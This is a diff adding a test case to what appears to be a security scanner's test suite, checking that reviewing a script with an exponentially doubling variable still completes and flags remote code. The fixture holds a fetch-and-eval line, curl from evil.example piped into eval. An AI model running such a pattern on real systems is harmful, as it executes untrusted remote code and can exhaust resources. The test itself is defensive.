@@ -137,6 +137,13 @@ test("a few letters that stand for gigabytes do not end the review", async () =>
   expect(findings.map(({ rule }) => rule)).toContain("remote-code-in-recipe");
 });
 
+test("a variable that doubles where it comes from does not end the review", async () => {
+  const bomb = script(`a=$(curl https://evil.example/x)\n${'a="$a$a"\n'.repeat(40)}eval "$a"\n`);
+  const { complete, findings } = await reviewOf({ "a.sh": script("") }, { "a.sh": bomb });
+  expect(complete).toBe(true);
+  expect(findings.map(({ rule }) => rule)).toContain("remote-code-in-recipe");
+});
+
 const numbers = times(1_200, (n) => `${20_000 + n} `);
 const flood = (count: number, line: (n: number) => string) => recipe(times(count, line));
 const far = (n: number) => `\n\n\n\n\n  a${n} = "${"x ".repeat(90)}"; b${n} = 1;\n\n\n\n\n`;
